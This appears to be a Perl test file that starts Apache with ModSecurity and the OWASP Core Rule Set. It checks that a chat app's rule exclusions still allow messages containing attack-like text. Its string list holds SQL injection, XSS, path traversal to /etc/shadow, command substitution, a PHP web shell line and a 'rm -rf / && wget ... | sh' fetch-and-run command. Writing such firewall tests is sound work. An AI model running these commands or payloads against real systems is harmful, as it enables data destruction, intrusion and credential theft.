# The exclusions in conf/modsecurity.conf with the real ModSecurity and the Core Rule Set at its default level.
use strict;
use warnings;
use Test::More;
use ChatTest;
use JSON::PP;

my ($module, $load) = ("$ENV{CHAT_MODULES}/mod_security2.so", '/usr/share/modsecurity-crs/owasp-crs.load');
plan skip_all => 'libapache2-mod-security2 and modsecurity-crs are not installed' unless -e $module && -r $load;

my $dir    = stage() . '/modsecurity';
my $server = httpd($dir, <<"END");
LoadModule unique_id_module $ENV{CHAT_MODULES}/mod_unique_id.so
LoadModule security2_module $module
SecRuleEngine On
SecRequestBodyAccess On
SecResponseBodyAccess On
SecResponseBodyMimeType text/plain text/html text/xml
SecDataDir $dir
SecTmpDir $dir
SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
Include ${\ stage() }/conf/modsecurity.conf
Include $load
ChatRevealPasswords On
ChatRealtime off
ChatRateLimit teendevops off
END
site($server->{url});
my @texts = ('select * from users where id=1 or 1=1', q(' UNION SELECT password FROM users--), '<script>alert(1)</script>',
    'cat /etc/passwd', '$(whoami); `id`', 'let x = document.cookie', '../../../../etc/shadow', 'rm -rf / && wget http://x/y.sh | sh',
    '<?php system($_GET["c"]); ?>', 'java.lang.Runtime.getRuntime().exec("x")', 'ORA-00933: SQL command not properly ended',
    '<img src=x onerror=alert(1)>', 'hello');
my %json = (headers => { 'Content-Type' => 'application/json' });
is((request('GET', '/other?q=' . join '', map { sprintf '%%%02x', ord } split //, $texts[2]))[0], 403, 'the rule set is at work elsewhere');

my ($name, $token) = account();
my ($channel) = channel($token, 'drop table users; --');
my ($code, $body, $h) = request('POST', '/api/v0/chatroom/', %json,
    body => encode_json({ username => $name, password => q(' or 1=1; drop table x --), chatroom_name => 'x' }));
is($code, 200, 'a password that talks SQL');
my ($cookie) = $h->{'set-cookie'} =~ /^([^;]+)/;
my ($room)   = $body =~ /"chatroomID":"([^"]+)"/;
my ($id)     = $body =~ /"channelID":"([^"]+)"/;
my $king = body_json((request('POST', '/api/v1/users/login', %json, body => encode_json({ email => $name, password => $PW })))[1]);
my %king = map { ($_ => $king->{$_}) } qw(user_id user_name session_id);
for my $text (@texts) {
    is((button('sendmessage/', { token => $token, channel => $channel, message => $text }))[0], 200, "Button: $text");
    is((request('POST', "/api/v0/messages/$room", headers => { 'Content-Type' => 'application/json', Cookie => $cookie },
        body => encode_json({ userID => '0', channelID => $id, data => $text, type => 'text' })))[0], 200, "chatroom: $text");
    is((request('POST', '/api/v1/messages', %json, body => encode_json({ %king, message_text => "\@$name $text" })))[0], 201, "Kinglet: $text");
    is((request('PUT', '/api/v1/users', %json, body => encode_json({ %king, email => "$name\@test.com", desc_markup => $text })))[0], 200,
        "Kinglet's profile: $text");
}
is((request('GET', "/api/v1/messages?user_id=$king{user_id}&user_name=$king{user_name}&session_id=$king{session_id}"))[0], 200, 'session_id without Referer');
($code, $body) = request('POST', '/api/v1/chat/get/', headers => { 'Content-Type' => 'application/x-www-form-urlencoded' }, body => 'channel=1&format=dump');
is($code, 200, 'a dump of messages');
stop_httpd($server, 'ModSecurity|security2');
done_testing;
